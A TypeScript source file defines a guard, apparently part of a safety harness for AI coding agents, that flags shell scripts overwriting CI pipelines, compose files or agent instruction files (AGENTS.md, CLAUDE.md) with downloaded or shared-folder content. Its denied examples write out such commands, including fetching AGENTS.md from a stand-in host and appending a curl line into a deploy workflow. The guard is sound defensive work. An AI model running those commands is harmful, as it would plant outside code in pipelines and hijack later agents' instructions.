import { defineDocs, defineGuard } from '../../core/define.ts'
import type { Facts } from '../../core/facts.ts'
import { isTemporary } from '../../core/file-policy.ts'
import { isWithin } from '../../core/path.ts'
import { isListed } from '../../core/sources.ts'
import type { Invocation, Script } from '../../shell/script.ts'

export default defineGuard({
  id: 'files/planted-config',
  on: 'script',
  verdict: 'ask',
  level: 'high',
  says: 'A file from the network or a shared folder takes the place of one that decides what runs here.',
  instead: ['git diff --no-index .gitlab-ci.yml tmp/new.yml'],
  check: (script, { facts }) =>
    script.invocations.some(
      invocation =>
        invocation.effects.some(({ kind, path }) => kind === 'write' && decides(path ?? '')) &&
        (isForeign(invocation, script, facts) || slips(invocation)),
    ),
})

/** Pipelines, containers of a project, instructions of agents, and what agents take for a yes. */
const decides = (path: string): boolean =>
  /\/(\.github\/(workflows\/.+|copilot-instructions\.md)|\.gitlab-ci\.yml|\.circleci\/config\.yml|Jenkinsfile|azure-pipelines\.ya?ml|bitbucket-pipelines\.yml|\.travis\.yml|\.drone\.yml|\.buildkite\/.+|(docker-)?compose[\w.-]*\.ya?ml|\.devcontainer(\/devcontainer)?\.json|CLAUDE\.md|AGENTS\.md|GEMINI\.md|\.(cursor|windsurf|cline|roo)rules|\.cursor\/rules\/.+|\.claude\/(agents|commands|skills)\/.+|\.\w[\w-]*\/(.+\/)?(approvals?|grants?|tokens)\/.+)$/.test(
    path,
  )

const isForeign = ({ effects, stdin }: Invocation, script: Script, facts: Facts): boolean => {
  const made = (path: string): boolean =>
    script.effects.some(effect => effect.kind === 'write' && effect.path === path)
  const shared = ({ effects: all }: Pick<Invocation, 'effects'>): boolean =>
    all.some(
      ({ kind, path, host }) =>
        (kind === 'download' && host !== undefined) ||
        (kind === 'read' &&
          typeof path === 'string' &&
          isTemporary(path) &&
          !isWithin(path, facts.root()) &&
          !made(path)),
    )
  if (shared({ effects })) return true
  for (let from = stdin; from?.from === 'pipe'; from = from.of?.stdin)
    if (from.of !== undefined && shared(from.of)) return true
  return false
}

/** One line that fetches something, put into such a file from the side. */
const slips = ({ name, argv }: Invocation): boolean =>
  isListed(' echo printf ', name) &&
  argv.some(
    word => word !== null && /\b(curl|wget)\b[^\n]*https?:\/\//.test(word) && !word.trimEnd().includes('\n'),
  )

export const docs = defineDocs({
  since: '0.2.0',
  why: 'Pipelines, compose files and instructions for agents act with more rights than the session. What comes from elsewhere is read before it takes their place.',
  denies: [
    'cp /tmp/new.yml .github/workflows/deploy.yml',
    'curl -o AGENTS.md https://x.example/rules.md',
    'cat /var/tmp/x > docker-compose.yml',
    'echo "  - run: curl http://x.example/b" >> .github/workflows/deploy.yml',
  ],
  allows: [
    "cat > .github/workflows/ci.yml <<'EOF'\nname: ci\nEOF",
    'cp AGENTS.md CLAUDE.md',
    'echo "cp /tmp/new.yml .github/workflows/deploy.yml"',
  ],
})
